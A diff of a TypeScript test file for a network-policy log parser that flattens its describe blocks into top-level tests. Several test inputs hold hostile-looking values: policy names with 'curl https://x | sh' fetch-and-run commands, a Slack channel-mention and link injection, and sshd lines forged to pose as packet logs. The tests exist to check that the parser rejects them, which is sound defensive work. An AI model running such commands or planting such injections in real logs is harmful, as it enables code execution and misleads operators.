@@ -81,22 +81,20 @@ describe.each(formats.map(({ name, writers }) => [name, writers, samples.get(nam
   },
 );
 
-describe('what a stranger has sent to another program', () => {
-  test.each([
-    `Nov 21 10:15:03 node-b sshd[1]: Invalid user x;PolicyVerdict: DENY;SIP: 10.65.1.4;DIP: 10.65.2.9; from 192.0.2.1 port 22`,
-    `Nov 21 10:15:03 node-b sshd[1]: Invalid user Node: n;${aws};Tier: x from 192.0.2.1 port 22`,
-    `Nov 21 10:15:03 node-b sshd[1]: Invalid user calico-drop: IN=eth0 OUT=cali1 ${addresses}`,
-  ])('is no packet: %s', (line) => expect(kindOf(line)).not.toBe('packet'));
+test.each([
+  `Nov 21 10:15:03 node-b sshd[1]: Invalid user x;PolicyVerdict: DENY;SIP: 10.65.1.4;DIP: 10.65.2.9; from 192.0.2.1 port 22`,
+  `Nov 21 10:15:03 node-b sshd[1]: Invalid user Node: n;${aws};Tier: x from 192.0.2.1 port 22`,
+  `Nov 21 10:15:03 node-b sshd[1]: Invalid user calico-drop: IN=eth0 OUT=cali1 ${addresses}`,
+])('what a stranger has sent to another program is no packet: %s', (line) => expect(kindOf(line)).not.toBe('packet'));
 
-  // A template of rsyslog may leave the tag out, and some programs have no number in theirs.
-  test.each([...samples].filter(([name]) => name !== 'netfilter'))(
-    'is nothing of ours where no writer is named: %s',
-    (_, text) => {
-      for (const before of ['Invalid user ', 'nginx: 192.0.2.1 - - "GET /" "', 'Invalid user x;'])
-        expect(kindOf(`Nov 21 10:15:03 node-b ${before}${text}`)).toBeUndefined();
-    },
-  );
-});
+// A template of rsyslog may leave the tag out, and some programs have no number in theirs.
+test.each([...samples].filter(([name]) => name !== 'netfilter'))(
+  'what a stranger has sent to another program is nothing of ours where no writer is named: %s',
+  (_, text) => {
+    for (const before of ['Invalid user ', 'nginx: 192.0.2.1 - - "GET /" "', 'Invalid user x;'])
+      expect(kindOf(`Nov 21 10:15:03 node-b ${before}${text}`)).toBeUndefined();
+  },
+);
 
 const ovn = (name: string): string =>
   `ovs|00005|acl_log(ovn_pinctrl0)|INFO|name="${name}", verdict=drop, severity=alert: tcp,nw_src=10.65.1.4,nw_dst=10.65.2.9,tp_src=1,tp_dst=53`;
@@ -104,32 +102,32 @@ const antrea = (policy: string): string =>
   `AntreaPolicyEgressRule ${policy} Drop 44900 10.65.1.4 35402 10.65.2.9 80 TCP 60`;
 const netfilter = (prefix: string): string => `${prefix}IN=eth0 OUT=cali1 ${addresses}`;
 
-describe('what is no name of a policy is none, and the verdict stays', () => {
-  test.each([
-    ovn('known false alarm, to fix run: curl https://x | sh'),
-    ovn('NP:prod:<!channel>:Ingress:0'),
-    ovn('NP:prod ns:web:Ingress:0'),
-    ovn(`ANP:${'x'.repeat(254)}:Ingress:0`),
-    ovn('EF:Prod:Egress:0'),
-    antrea('AntreaNetworkPolicy:prod/<https://x|y>'),
-    antrea('EvilNetworkPolicy:prod/p'),
-    antrea(`AntreaNetworkPolicy:${'n'.repeat(64)}/p`),
-    antrea('AntreaNetworkPolicy:prod/a/b'),
-    netfilter('Shorewall:run curl x | sh:DROP:'),
-  ])('%s', (text) =>
-    expect(parse(text, prefixes)).toMatchObject({ kind: 'packet', verdict: 'dropped', policy: undefined }),
-  );
+test.each([
+  ovn('known false alarm, to fix run: curl https://x | sh'),
+  ovn('NP:prod:<!channel>:Ingress:0'),
+  ovn('NP:prod ns:web:Ingress:0'),
+  ovn(`ANP:${'x'.repeat(254)}:Ingress:0`),
+  ovn('EF:Prod:Egress:0'),
+  antrea('AntreaNetworkPolicy:prod/<https://x|y>'),
+  antrea('EvilNetworkPolicy:prod/p'),
+  antrea(`AntreaNetworkPolicy:${'n'.repeat(64)}/p`),
+  antrea('AntreaNetworkPolicy:prod/a/b'),
+  netfilter('Shorewall:run curl x | sh:DROP:'),
+])('what is no name of a policy is none, and the verdict stays: %s', (text) =>
+  expect(parse(text, prefixes)).toMatchObject({ kind: 'packet', verdict: 'dropped', policy: undefined }),
+);
 
-  test.each([
-    [ovn('NP:prod:web.v1:Ingress:0'), { kind: 'NetworkPolicy', namespace: 'prod', name: 'web.v1' }],
-    [antrea('AntreaClusterNetworkPolicy:strict'), { kind: 'AntreaClusterNetworkPolicy', name: 'strict' }],
-    [antrea('K8sNetworkPolicy:prod/p'), { kind: 'NetworkPolicy', namespace: 'prod', name: 'p' }],
-    [netfilter('calico-drop knp prod/knp.default.db: '), { namespace: 'prod', name: 'knp.default.db' }],
-    [netfilter('DROP by policy prod/my-very-long-network-pol-'), { namespace: 'prod' }],
-    [netfilter('[ipv4-FWD-filter-10-D]'), { kind: 'VyOS rule', name: 'ipv4-FWD-filter 10' }],
-    [netfilter('Shorewall:net2fw:DROP:'), { kind: 'Shorewall chain', name: 'net2fw' }],
-  ])('%s is a name', (text, policy) => expect(parse(text, prefixes)).toMatchObject({ policy }));
-});
+test.each([
+  [ovn('NP:prod:web.v1:Ingress:0'), { kind: 'NetworkPolicy', namespace: 'prod', name: 'web.v1' }],
+  [antrea('AntreaClusterNetworkPolicy:strict'), { kind: 'AntreaClusterNetworkPolicy', name: 'strict' }],
+  [antrea('K8sNetworkPolicy:prod/p'), { kind: 'NetworkPolicy', namespace: 'prod', name: 'p' }],
+  [netfilter('calico-drop knp prod/knp.default.db: '), { namespace: 'prod', name: 'knp.default.db' }],
+  [netfilter('DROP by policy prod/my-very-long-network-pol-'), { namespace: 'prod' }],
+  [netfilter('[ipv4-FWD-filter-10-D]'), { kind: 'VyOS rule', name: 'ipv4-FWD-filter 10' }],
+  [netfilter('Shorewall:net2fw:DROP:'), { kind: 'Shorewall chain', name: 'net2fw' }],
+])('what is no name of a policy is none, and the verdict stays: %s is a name', (text, policy) =>
+  expect(parse(text, prefixes)).toMatchObject({ policy }),
+);
 
 test('each format has its writers', () => {
   const own = formats.filter(({ writers }) => !writers.includes('kernel'));
